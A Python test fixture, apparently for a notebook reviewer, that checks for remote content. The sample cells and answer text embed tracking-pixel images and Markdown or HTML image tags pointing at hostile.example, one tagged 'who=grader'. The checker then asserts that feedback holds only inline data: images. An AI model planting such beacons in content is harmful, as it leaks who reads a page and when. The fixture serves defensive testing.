"""Shows pictures from the web that tell its author who reads the page, and when."""

ANSWERS = {
    "square": """
from IPython.display import HTML, Image, Markdown, display
display(Image(url="https://hostile.example/seen.gif?who=grader"))
display(Markdown("![seen](https://hostile.example/seen.gif) ![too](//hostile.example/seen.gif)"))
display(HTML("<video poster=https://hostile.example/v><img srcset='https://hostile.example/s 2x'>"))
""",
    "why_average": "See ![it](https://hostile.example/seen.gif) <img src='https://hostile.example/seen.gif'>",
}
SAYS = ["something loaded from elsewhere (cell 4, cell 12)"]


def CHECK(found):
    from html.parser import HTMLParser

    sources = []
    parser = HTMLParser()
    wanted = ("src", "srcset", "poster")
    parser.handle_starttag = lambda tag, attrs: sources.extend(v for k, v in attrs if k in wanted)
    parser.feed(found.feedback)
    assert not [source for source in sources if not source.startswith("data:image/")], sources
